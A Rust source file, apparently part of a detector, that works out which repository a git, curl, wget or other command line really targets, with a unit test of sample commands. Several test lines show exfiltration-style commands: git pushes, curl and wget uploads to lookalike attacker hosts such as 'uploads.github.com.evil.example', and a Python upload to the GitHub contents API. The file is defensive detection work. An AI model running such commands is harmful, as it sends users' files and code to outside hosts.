//! The repository that a command line speaks to: the address that its program takes for its target, not one in an option,
//! a header or a message.

use super::command_line::Word;
use super::git::{GitCommand, GitLine, git_line};
use super::program::Program;
use super::upload_tools::{curl_urls, wget_urls};
use crate::model::repository::{Address, OwnHosts};

/// The repository that a process speaks to, as its command line says it; `None` where that names none.
#[must_use]
pub fn spoken_to(image: Option<&str>, line: &str, own: &OwnHosts) -> Option<Address> {
    match image.and_then(Program::of) {
        Some(Program::Git) => of_git(line, own),
        Some(Program::Curl) => first_of(curl_urls(line), line, own),
        Some(Program::Wget) => first_of(wget_urls(line), line, own),
        _ => Address::in_text(line, own),
    }
}

fn first_of<'a>(mut urls: impl Iterator<Item = Word<'a>>, line: &str, own: &OwnHosts) -> Option<Address> {
    urls.find_map(|url| Address::in_text(&url.text, own)).or_else(|| Address::in_text(line, own))
}

/// A push to a name such as `origin` goes where the configuration says: what its options and refspecs hold is no target,
/// but what `-c` sets for it may be.
fn of_git(line: &str, own: &OwnHosts) -> Option<Address> {
    let GitLine { act, verb, url, remote } = git_line(line);
    if let Some(url) = url {
        return Address::of_remote(&url.text, own);
    }
    if act != GitCommand::Push {
        return Address::in_text(line, own);
    }
    let before_verb = verb.and_then(|verb| line.get(..verb.range.start)).unwrap_or("");
    Address::in_text(before_verb, own).or_else(|| Address::in_text(&remote?.text, own))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn target_is_no_options_value() {
        let git = Some(r"C:\Git\cmd\git.exe");
        let curl = Some(r"C:\Windows\System32\curl.exe");
        let wget = Some(r"C:\wget.exe");
        let python = Some(r"C:\python.exe");
        for (image, line, expected) in [
            (
                git,
                "git push https://github.com.evil.example/loot/box",
                Some("github.com.evil.example/loot/box"),
            ),
            (git, "git push https://evilgithub.com/loot/box", Some("evilgithub.com/loot/box")),
            (git, "git push git@ssh.dev.azure.com:v3/acme/app/code", Some("dev.azure.com/acme/app/code")),
            (git, "git push -o https://github.com/good/x https://h.example/o/r", Some("h.example/o/r")),
            (git, "git -c remote.x.url=https://github.com/loot/box push x", Some("github.com/loot/box")),
            (git, r"git -C C:\go\src\github.com\o\r push origin", None),
            (git, "git -c user.email=me@github.com push origin", None),
            (git, "git push github.com", Some("github.com")),
            (git, "git push origin main -o https://github.com/good/x", None),
            (git, "git push origin https://github.com/good/x", None),
            (git, "git push --repo=origin -o x=github.com", None),
            (
                git,
                "git clone https://github.com/prometheus/pushgateway",
                Some("github.com/prometheus/pushgateway"),
            ),
            (
                wget,
                "wget --header \"Referer: https://github.com/good/x\" --post-file=a -U https://github.com/b \
                 https://api.github.com.evil.example/x",
                Some("api.github.com.evil.example"),
            ),
            (
                curl,
                "curl -e https://github.com/good/x -T a https://api.github.com/gists",
                Some("api.github.com/gists"),
            ),
            (
                curl,
                "curl -H \"Referer: https://github.com/good/x\" -T a https://uploads.github.com.evil.example/x",
                Some("uploads.github.com.evil.example"),
            ),
            (curl, "curl -d @x --url https://api.github.com/repos/o/r/contents/x", Some("github.com/o/r")),
            (
                python,
                "python -c \"put('https://api.github.com/repos/o/r/contents/x')\"",
                Some("github.com/o/r"),
            ),
            (None, "https://github.com/o/r", Some("github.com/o/r")),
            (python, "python x.py", None),
        ] {
            let found = spoken_to(image, line, &OwnHosts::default()).map(|address| address.to_string());
            assert_eq!(found.as_deref(), expected, "{line}");
        }
    }
}
